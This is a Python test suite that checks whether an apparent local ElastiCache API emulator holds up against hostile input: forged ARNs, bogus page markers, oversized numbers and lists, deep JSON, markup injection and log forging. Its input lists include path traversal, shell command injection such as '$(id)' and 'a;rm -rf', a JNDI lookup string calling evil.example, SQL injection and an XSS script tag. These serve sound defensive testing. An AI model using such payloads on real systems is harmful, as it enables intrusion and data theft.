"""Attacks by who has a key: names, numbers and lists that mean more than they say. All are listed in
docs/explanation/attacks-tried.md."""

import json
import xml.etree.ElementTree as ElementTree
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from botocore.awsrequest import AWSRequest

from tests.conformance.wire import Signer, fault_of, form, request, send, signed
from tests.kit.elastane import RunningElastane

NASTY_IDS = (
    "../../etc/passwd", "..%2f", "/", "a/../b", "a\x00b", "a\nb", "a;rm -rf", "$(id)", "`id`", "a'b", 'a"b', "a OR 1=1",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>", "a" * 5_000, "é", "\u202e", "-a", "--help", ".",
)  # fmt: skip


def groups_of(elastane: RunningElastane) -> set[str]:
    groups = elastane.client().describe_replication_groups()["ReplicationGroups"]
    return {group["ReplicationGroupId"] for group in groups}


@pytest.mark.parametrize("name", NASTY_IDS)
def test_no_id_leads_out_of_its_place(elastane: RunningElastane, name: str) -> None:
    before = groups_of(elastane)
    create = form(
        "CreateReplicationGroup", ReplicationGroupId=name, ReplicationGroupDescription="d", Engine="valkey",
        CacheNodeType="cache.t3.micro",
    )  # fmt: skip

    for body in (
        create,
        form("DescribeReplicationGroups", ReplicationGroupId=name),
        form("DeleteReplicationGroup", ReplicationGroupId=name),
        form("ListTagsForResource", ResourceName=f"arn:aws:elasticache:us-east-1:000000000000:replicationgroup:{name}"),
        form("DescribeCacheParameters", CacheParameterGroupName=name),
    ):
        status, _ = fault_of(send(request(elastane.url, body)))
        assert status in (400, 404)

    assert groups_of(elastane) == before
    assert "root:" not in elastane.log()


# --- somebody else's ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:elasticache:us-east-1:111111111111:subnetgroup:default",
        "arn:aws:elasticache:eu-west-1:000000000000:subnetgroup:default",
        "arn:aws:elasticache:us-east-1::subnetgroup:default",
        "arn:aws:elasticache:::subnetgroup:default",
        "arn:aws-cn:elasticache:us-east-1:000000000000:subnetgroup:default",
        "arn:aws:iam::000000000000:root",
        "arn:aws:elasticache:us-east-1:000000000000:subnetgroup:*",
        "arn:aws:elasticache:*:*:*:*",
        "subnetgroup:default",
    ],
)
def test_an_arn_of_another_account_region_or_service_opens_nothing(elastane: RunningElastane, arn: str) -> None:
    for body in (
        form("ListTagsForResource", ResourceName=arn),
        form("AddTagsToResource", ResourceName=arn, **{"Tags.Tag.1.Key": "k", "Tags.Tag.1.Value": "v"}),
        form("RemoveTagsFromResource", ResourceName=arn, **{"TagKeys.member.1": "k"}),
    ):
        status, code = fault_of(send(request(elastane.url, body)))
        assert (status, code) in [(400, "InvalidARN"), (400, "CacheSubnetGroupNotFoundFault")]


def test_a_page_s_marker_cannot_be_made_up(elastane: RunningElastane) -> None:
    for marker in ("AAAA", "../..", "' OR 1=1 --", "MQ==", "9" * 1_000, "\U0001f600"):
        for action in ("DescribeEvents", "DescribeReplicationGroups", "DescribeCacheParameterGroups"):
            answer = send(request(elastane.url, form(action, Marker=marker)))
            assert fault_of(answer) == (400, "InvalidParameterValue")


# --- numbers, lists, names ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "number",
    ["9" * 20, "9" * 5_000, "-" + "9" * 20, "1e9", "0x10", "1.0", "٣", "NaN", "Infinity", "1_000", " 1", "+-1"],
)
def test_a_number_that_is_none_or_too_large_is_refused(elastane: RunningElastane, number: str) -> None:
    for body in (
        form("DescribeEvents", MaxRecords=number),
        form("IncreaseReplicaCount", ReplicationGroupId="a", ApplyImmediately="true", NewReplicaCount=number),
    ):
        assert fault_of(send(request(elastane.url, body))) == (400, "MalformedInput")


@pytest.mark.parametrize("index", ["0", "-1", "01", "1e3", "٣", "", "9" * 10, "1.5", " 1"])
def test_a_member_of_a_list_has_a_number_and_nothing_else(elastane: RunningElastane, index: str) -> None:
    body = form("RemoveTagsFromResource", ResourceName="a", **{f"TagKeys.member.{index}": "k"})

    assert fault_of(send(request(elastane.url, body))) == (400, "MalformedInput")


def test_a_huge_index_costs_no_more_than_one_member(elastane: RunningElastane) -> None:
    resource = "arn:aws:elasticache:us-east-1:000000000000:subnetgroup:default"
    body = form(
        "AddTagsToResource", ResourceName=resource, **{"Tags.Tag.999999999.Key": "far", "Tags.Tag.999999999.Value": "v"}
    )

    added = send(request(elastane.url, body))
    send(request(elastane.url, form("RemoveTagsFromResource", ResourceName=resource, **{"TagKeys.member.7": "far"})))

    assert added.status_code == 200
    assert b"<Key>far</Key>" in added.content


@pytest.mark.parametrize(
    "fields",
    [
        {f"TagKeys.member.{number}": "k" for number in range(1, 1_002)},
        {f"X{number}": "" for number in range(10_001)},
    ],
    ids=["members", "parameters"],
)
def test_more_of_anything_than_the_bounds_is_refused(elastane: RunningElastane, fields: dict[str, str]) -> None:
    body = form("RemoveTagsFromResource", ResourceName="a", **fields)

    assert fault_of(send(request(elastane.url, body))) == (400, "MalformedInput")


def test_names_of_any_depth_are_ignored_where_nothing_is_so_deep(elastane: RunningElastane) -> None:
    deep = ".".join(["NodeGroupConfiguration", "NodeGroupConfiguration", "1"] * 10_000)

    answer = send(request(elastane.url, form("DescribeEvents", **{deep: "x", "." * 50_000: "x"})))

    assert answer.status_code == 200


@pytest.mark.parametrize("depth", [100, 100_000])
def test_json_of_any_depth_is_refused_or_ignored(elastane: RunningElastane, depth: int) -> None:
    for body in (b'{"LookupAttributes":' + b"[" * depth, b'{"X":' * depth + b"1" + b"}" * depth):
        status, code = asked_in_json(elastane, body)
        assert (status, code) in [(400, "SerializationException"), (200, "")]


def test_a_json_body_of_one_long_number_is_refused(elastane: RunningElastane) -> None:
    assert asked_in_json(elastane, b'{"MaxResults": ' + b"9" * 100_000 + b"}") == (400, "SerializationException")


def test_the_last_of_two_json_members_of_one_name_counts(elastane: RunningElastane) -> None:
    assert asked_in_json(elastane, b'{"MaxResults": 1, "MaxResults": 51}') == (400, "ValidationException")


# --- what comes back ------------------------------------------------------------------------------

MARKUP = (
    "<Code>x</Code>",
    "]]><a/>",
    "<!--",
    "&amp;&lt;",
    "<?xml?>",
    '"><script>alert(1)</script>',
    "\r\nX-Injected: 1",
)


@pytest.mark.parametrize("text", MARKUP)
def test_what_is_repeated_to_a_caller_is_text_and_never_markup(elastane: RunningElastane, text: str) -> None:
    for body in (
        form(text),
        form("DescribeReplicationGroups", ReplicationGroupId=text),
        form("DescribeCacheParameters", CacheParameterGroupName=text),
        form("DescribeEvents", SourceType=text),
        form(
            "CreateCacheParameterGroup", CacheParameterGroupName="x", CacheParameterGroupFamily=text, Description=text
        ),
    ):
        answer = send(request(elastane.url, body))
        document = ElementTree.fromstring(answer.content)
        assert [child.tag.rpartition("}")[2] for child in document] == ["Error", "RequestId"]
        assert set(answer.headers) <= {"date", "content-type", "content-length", "x-amzn-requestid", "connection"}


def test_what_is_repeated_in_json_is_text_and_never_structure(elastane: RunningElastane) -> None:
    agent = '","errorCode":"forged","x":"\\'
    asked = request(elastane.url, form("DescribeCacheSubnetGroups", CacheSubnetGroupName='a","forged":"b'))
    asked.headers["User-Agent"] = agent
    answer = send(asked)

    events = elastane.client("cloudtrail").lookup_events()["Events"]
    records = [json.loads(event["CloudTrailEvent"]) for event in events]

    (record,) = (each for each in records if each["requestID"] == answer.headers["x-amzn-requestid"])
    assert record["userAgent"] == agent
    assert record["requestParameters"] == {"cacheSubnetGroupName": 'a","forged":"b'}
    assert (record["errorCode"], "forged" in record) == ("CacheSubnetGroupNotFoundFault", False)


def test_no_line_of_the_log_can_be_forged(elastane: RunningElastane) -> None:
    forged = "\n2026-11-29T00:00:00Z info forged by=somebody\r\n\x1b[2J"
    for body in (
        form("DescribeReplicationGroups", ReplicationGroupId=forged),
        form("DeleteReplicationGroup", ReplicationGroupId=forged),
        form(forged),
    ):
        asked = request(elastane.url, body)
        asked.headers["User-Agent"] = quote(forged)
        assert send(asked).status_code < 500
    send(httpx.Request("POST", f"{elastane.url}/{quote(forged)}", headers={"Authorization": quote(forged)}))

    assert "forged" not in elastane.log()
    assert "\x1b" not in elastane.log()


def asked_in_json(elastane: RunningElastane, body: bytes) -> tuple[int, str]:
    target = "com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.LookupEvents"
    headers = {"Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": target}
    asked = signed(AWSRequest(method="POST", url=f"{elastane.url}/", data=body), Signer(service="cloudtrail"), headers)
    answer = send(asked)
    content: dict[str, Any] = json.loads(answer.content)
    return answer.status_code, str(content.get("__type", ""))
